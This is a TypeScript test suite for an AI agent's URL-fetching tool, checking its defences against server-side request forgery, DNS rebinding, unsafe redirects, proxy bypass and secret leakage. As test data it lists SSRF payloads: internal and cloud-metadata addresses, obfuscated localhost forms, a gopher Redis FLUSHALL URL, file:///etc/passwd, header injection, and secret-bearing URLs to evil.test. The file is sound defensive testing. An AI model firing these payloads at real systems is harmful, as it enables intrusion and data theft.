import type { LookupAddress } from 'node:dns'
import { type FetchUrlOptions, fetchUrlTool } from '@curfew/agent/tools'
import { createRuntime } from '@curfew/core'
import { describe, expect, test } from 'vitest'
import { startWebServer } from './support/web-server.ts'

/** Requests without approval. `hosts` is what DNS answers, one list for each lookup; the last one is repeated. */
function setUp(hosts: Record<string, readonly string[][]> = {}, options: Partial<FetchUrlOptions> = {}) {
  const runtime = createRuntime({ approval: 'allow', log: () => {} })
  const lookups: string[] = []
  const lookUp = async (hostname: string): Promise<LookupAddress[]> => {
    const asked = lookups.filter((name) => name === hostname).length
    lookups.push(hostname)
    const answers = hosts[hostname]
    const answer = answers?.[Math.min(asked, answers.length - 1)]
    if (answer === undefined) throw Object.assign(new Error('ENOTFOUND'), { code: 'ENOTFOUND' })
    return answer.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }))
  }
  runtime.register(fetchUrlTool({ redact: (text) => runtime.redact(text), env: {}, lookUp, ...options }))
  const get = async (url: string) => {
    const [result] = await runtime.execute([{ id: '1', name: 'fetch_url', params: { url } }])
    return result!
  }
  return { runtime, lookups, get }
}

describe('special addresses are denied', () => {
  test.each([
    ['loopback', '127.0.0.1'],
    ['another loopback address', '127.8.9.10'],
    ['private', '10.1.2.3'],
    ['private', '172.16.0.1'],
    ['private', '172.31.255.254'],
    ['private', '192.168.1.1'],
    ['the metadata of clouds', '169.254.169.254'],
    ['unspecified', '0.0.0.0'],
    ['unspecified network', '0.1.2.3'],
    ['CGNAT', '100.64.0.1'],
    ['multicast', '224.0.0.1'],
    ['broadcast', '255.255.255.255'],
    ['benchmarks', '198.18.0.1'],
    ['documentation', '203.0.113.7'],
    ['IPv6 loopback', '::1'],
    ['IPv6 unspecified', '::'],
    ['IPv6 private', 'fd12:3456::1'],
    ['IPv6 link-local', 'fe80::1'],
    ['IPv6 link-local with a zone', 'fe80::1%eth0'],
    ['IPv6 site-local', 'fec0::1'],
    ['IPv6 multicast', 'ff02::1'],
    ['IPv4-mapped', '::ffff:127.0.0.1'],
    ['IPv4-mapped in hex', '::ffff:7f00:1'],
    ['IPv4-mapped public', '::ffff:8.8.8.8'],
    ['IPv4-compatible', '::127.0.0.1'],
    ['6to4 of 127.0.0.1', '2002:7f00:1::1'],
    ['NAT64 of 127.0.0.1', '64:ff9b::7f00:1'],
    ['local NAT64', '64:ff9b:1::7f00:1'],
    ['Teredo', '2001:0:53aa:64c::1'],
    ['documentation, IPv6', '2001:db8::1'],
    ['unassigned', '4000::1'],
    ['the host of a machine in Azure', '168.63.129.16'],
    ['the metadata of Oracle', '192.0.0.192'],
    ['the metadata of Alibaba', '100.100.100.200'],
    ['a sink for DNS requests', '192.175.48.1'],
  ])('after DNS resolution: %s (%s)', async (_what, address) => {
    const { get, lookups } = setUp({ 'host.test': [[address]] })
    const result = await get('http://host.test/')
    expect(result).toMatchObject({ status: 'error', code: 'DENIED' })
    expect(result.content).toContain(address)
    expect(lookups).toEqual(['host.test'])
  })

  test('one private address among public ones', async () => {
    const { get } = setUp({ 'host.test': [['93.184.215.14', '10.0.0.1']] })
    expect(await get('http://host.test/')).toMatchObject({ code: 'DENIED' })
  })

  test.each([
    'http://127.0.0.1/',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'http://[::ffff:7f00:1]/',
    'http://[2002:7f00:1::]/',
    'http://[64:ff9b::7f00:1]/',
    'http://0.0.0.0/',
  ])('as an address in the URL, before a person is asked: %s', async (url) => {
    const { get, lookups } = setUp()
    expect(await get(url)).toMatchObject({ status: 'error', code: 'DENIED' })
    expect(lookups).toEqual([])
  })
})

describe('other ways to write an address', () => {
  test.each([
    ['decimal', 'http://2130706433/'],
    ['octal', 'http://0177.0.0.1/'],
    ['hexadecimal', 'http://0x7f.0.0.1/'],
    ['one hexadecimal number', 'http://0x7f000001/'],
    ['short', 'http://127.1/'],
    ['zero', 'http://0/'],
    ['with a trailing dot', 'http://127.0.0.1./'],
    ['full-width digits', 'http://１２７.０.０.１/'],
    ['circled digits', 'http://①②⑦.⓪.⓪.①/'],
    ['percent-encoded', 'http://127.0.0.%31/'],
    ['percent-encoded dots', 'http://127%2e0%2e0%2e1/'],
    ['long IPv6', 'http://[0:0:0:0:0:0:0:1]/'],
    ['IPv4 in IPv6', 'http://[::ffff:127.0.0.1]/'],
    ['upper case', 'http://LOCALHOST/'],
    ['a trailing dot', 'http://localhost./'],
    ['IDNA', 'http://ⓛocalhost/'],
    ['a soft hyphen', 'http://local\u00adhost/'],
    ['a backslash', 'http:\\\\127.0.0.1/'],
    ['without slashes', 'http:127.0.0.1/'],
    ['a tab', 'http://127.0.\t0.1/'],
    ['a leading blank', ' http://127.0.0.1/'],
    ['the default port', 'http://localhost:80/'],
    ['a parent folder', 'http://example.com/a/../b'],
    ['an encoded parent folder', 'http://example.com/a/%2e%2e/b'],
  ])('%s: only the canonical form is accepted', async (_what, url) => {
    const { get, lookups } = setUp({ localhost: [['127.0.0.1']] })
    const result = await get(url)
    expect(['INVALID_PARAMS', 'DENIED']).toContain(result.status === 'success' ? '' : result.code)
    expect(lookups).toEqual([])
  })

  test.each([
    ['a user name', 'https://docs.example.com@evil.test/'],
    ['a user name and a password', 'https://docs.example.com:pass@evil.test/'],
    ['an empty user name', 'https://@evil.test/'],
    ['an encoded user name', 'https://docs.example.com%2f@evil.test/'],
    ['file', 'file:///etc/passwd'],
    ['ftp', 'ftp://example.com/'],
    ['gopher', 'gopher://127.0.0.1:6379/_FLUSHALL'],
    ['data', 'data:text/plain,hello'],
    ['a line break', 'http://example.com/\r\nHost: evil.test'],
    ['nothing', 'http://'],
    ['not a URL', 'example.com'],
  ])('rejects %s', async (_what, url) => {
    const { get, lookups } = setUp()
    expect(await get(url)).toMatchObject({ status: 'error', code: 'INVALID_PARAMS' })
    expect(lookups).toEqual([])
  })
})

describe('changing DNS answers', () => {
  test('the host is resolved once, and the connection uses the checked address', async () => {
    const server = await startWebServer((_request, response) => response.end('hello'))
    // The second answer would be used if the connection resolved the name again.
    const { get, lookups } = setUp(
      { 'host.test': [['127.0.0.1'], ['192.0.2.1']] },
      { allow: ['127.0.0.0/8'] },
    )
    const result = await get(`http://host.test:${server.port}/`)
    expect(result.content).toContain('hello')
    expect(lookups).toEqual(['host.test'])
    expect(server.headers[0]).toContain(`host.test:${server.port}`)
  })

  test('a redirect to the same host is resolved and checked again', async () => {
    const server = await startWebServer((_request, response) =>
      response.writeHead(302, { location: '/internal' }).end(),
    )
    const { get, lookups } = setUp({ 'host.test': [['127.0.0.1'], ['10.0.0.1']] }, { allow: ['127.0.0.0/8'] })
    const result = await get(`http://host.test:${server.port}/`)
    expect(result).toMatchObject({ status: 'error', code: 'DENIED' })
    expect(result.content).toContain('10.0.0.1')
    expect(lookups).toHaveLength(2)
    expect(server.requests).toEqual(['/'])
  })
})

describe('redirects', () => {
  test('to another host are reported, and that host is not requested', async () => {
    const internal = await startWebServer((_request, response) => response.end('secret'))
    const server = await startWebServer((_request, response) =>
      response.writeHead(302, { location: `${internal.origin}/admin` }).end(),
    )
    const { get } = setUp({}, { allow: [`127.0.0.1:${server.port}`] })
    const result = await get(`${server.origin}/`)
    expect(result).toMatchObject({ status: 'success', value: { redirect: `${internal.origin}/admin` } })
    expect(internal.requests).toEqual([])
    expect(await get(`${internal.origin}/admin`)).toMatchObject({ code: 'DENIED' })
    expect(internal.requests).toEqual([])
  })

  test.each([
    ['file:///etc/passwd', /redirects to file:/],
    ['http://user:password@127.0.0.1/', /user name/],
    ['http://[', /invalid address/],
  ])('to %s are not followed', async (location, message) => {
    const server = await startWebServer((_request, response) => response.writeHead(302, { location }).end())
    const result = await setUp({}, { allow: ['127.0.0.1'] }).get(`${server.origin}/`)
    expect(result).toMatchObject({ status: 'error', code: 'TOOL_FAILED' })
    expect(result.content).toMatch(message)
  })

  test('end after five, and carry neither cookies nor a referrer', async () => {
    const server = await startWebServer((request, response) =>
      response
        .writeHead(302, { location: `/${Number(request.url!.slice(1)) + 1}`, 'set-cookie': 'a=b' })
        .end(),
    )
    const result = await setUp({}, { allow: ['127.0.0.1'] }).get(`${server.origin}/0`)
    expect(result.content).toMatch(/redirected more than 5 times/)
    expect(server.requests).toHaveLength(6)
    const names = new Set(server.headers.flat().map((text) => text?.toLowerCase()))
    for (const name of ['cookie', 'referer', 'authorization']) expect(names).not.toContain(name)
  })
})

describe('what the user allows', () => {
  test.each([
    ['the address', ['127.0.0.1'], true],
    ['the address and the port', ['127.0.0.1:PORT'], true],
    ['another port', ['127.0.0.1:1'], false],
    ['port 80 only', ['127.0.0.1:80'], false],
    ['the network', ['127.0.0.0/8'], true],
    ['another network', ['10.0.0.0/8'], false],
    ['another host', ['localhost'], false],
  ])('%s', async (_what, allow, isAllowed) => {
    const server = await startWebServer((_request, response) => response.end('hello'))
    const { get } = setUp({}, { allow: allow.map((entry) => entry.replace('PORT', String(server.port))) })
    expect((await get(`${server.origin}/`)).status).toBe(isAllowed ? 'success' : 'error')
  })

  test.each(['*', 'http://localhost', 'user@localhost', '10.0.0.0/33', 'x/8', '', '10.0.0.0/8/8'])(
    'rejects the entry %j',
    (entry) => {
      expect(() => setUp({}, { allow: [entry] })).toThrow(/fetchAllow\[0\]: expected a host/)
    },
  )
})

describe('proxies', () => {
  test.each([
    [{ HTTP_PROXY: 'http://proxy.test:8080' }, false],
    [{ http_proxy: 'http://proxy.test:8080' }, false],
    [{ ALL_PROXY: 'http://proxy.test:8080' }, false],
    [{ HTTPS_PROXY: 'http://proxy.test:8080' }, true],
    [{ HTTP_PROXY: 'http://proxy.test:8080', NO_PROXY: 'a.test, .test' }, true],
    [{ HTTP_PROXY: 'http://proxy.test:8080', NO_PROXY: '*' }, true],
    [{ HTTP_PROXY: 'http://proxy.test:8080', no_proxy: 'st,t.test' }, false],
    [{ HTTP_PROXY: '' }, true],
  ])('the address cannot be checked behind one: %j', async (env, isRequested) => {
    const server = await startWebServer((_request, response) => response.end('hello'))
    const { get, lookups } = setUp({ 'host.test': [['127.0.0.1']] }, { env, allow: ['127.0.0.0/8'] })
    const result = await get(`http://host.test:${server.port}/`)
    expect(result.status).toBe(isRequested ? 'success' : 'error')
    expect(lookups).toHaveLength(isRequested ? 1 : 0)
    if (!isRequested) expect(result.content).toMatch(/_proxy is set/i)
  })
})

describe('secrets', () => {
  test.each([
    ['as they are', (secret: string) => secret],
    ['encoded', (secret: string) => encodeURIComponent(secret)],
    ['encoded twice', (secret: string) => encodeURIComponent(encodeURIComponent(secret))],
    ['as base64', (secret: string) => Buffer.from(secret).toString('base64url')],
    ['as hex', (secret: string) => Buffer.from(secret).toString('hex')],
    ['in part', (secret: string) => secret.slice(0, 16)],
  ])('never leave in a URL: %s', async (_how, encode) => {
    const { runtime, get, lookups } = setUp({ 'evil.test': [['93.184.215.14']] })
    const secret = 'sk-live+0123456789/abcdef+XYZ'
    runtime.hideSecret('KEY', secret)
    const result = await get(`http://evil.test/?q=${encode(secret).replaceAll('+', '%2B')}`)
    expect(result).toMatchObject({ status: 'error', code: 'DENIED' })
    expect(result.content).not.toContain(secret)
    expect(lookups).toEqual([])
  })

  test('not in the target of a redirect either', async () => {
    const server = await startWebServer((_request, response) =>
      response.writeHead(302, { location: '/?q=sk-live-0123456789abcdef' }).end(),
    )
    const { runtime, get } = setUp({}, { allow: ['127.0.0.1'] })
    runtime.hideSecret('KEY', 'sk-live-0123456789abcdef')
    expect(await get(`${server.origin}/`)).toMatchObject({ code: 'DENIED' })
    expect(server.requests).toEqual(['/'])
  })
})

describe('approval', () => {
  const decide = async (url: string, rules: { allow?: string[]; deny?: string[] }) => {
    const runtime = createRuntime({ approval: { rules }, log: () => {} })
    runtime.register(
      fetchUrlTool({ redact: (text) => text, env: {}, lookUp: () => Promise.reject(new Error('no DNS')) }),
    )
    const [result] = await runtime.execute([{ id: '1', name: 'fetch_url', params: { url } }])
    return result!.status === 'success' ? 'success' : result!.code
  }

  test('without a rule, a person has to approve each URL: it may contain what the model knows', async () => {
    expect(await decide('https://evil.test/?data', {})).toBe('DENIED')
  })

  test.each([
    ['https://docs.example.com/a/b?c', 'TOOL_FAILED'],
    ['https://docs.example.com@evil.test/', 'INVALID_PARAMS'],
    ['https://docs.example.com.evil.test/', 'DENIED'],
    ['https://docs.example.com:8443/', 'DENIED'],
    ['http://docs.example.com/', 'DENIED'],
    ['https://docs.example.com\\@evil.test/', 'INVALID_PARAMS'],
    ['https://docs.example.com/../x', 'INVALID_PARAMS'],
    ['https://evil.test/https://docs.example.com/', 'DENIED'],
  ])('a rule for one host: %s ends with %s', async (url, code) => {
    expect(await decide(url, { allow: ['fetch_url(https://docs.example.com/*)'] })).toBe(code)
  })

  test.each(['https://evil.test/', 'https://EVIL.test/', 'https://ev%69l.test/', 'https://evil.test./'])(
    'a deny rule cannot be evaded: %s',
    async (url) => {
      const rules = { allow: ['fetch_url'], deny: ['fetch_url(https://evil.test/*)'] }
      expect(await decide(url, rules)).toMatch(/DENIED|INVALID_PARAMS/)
    },
  )
})
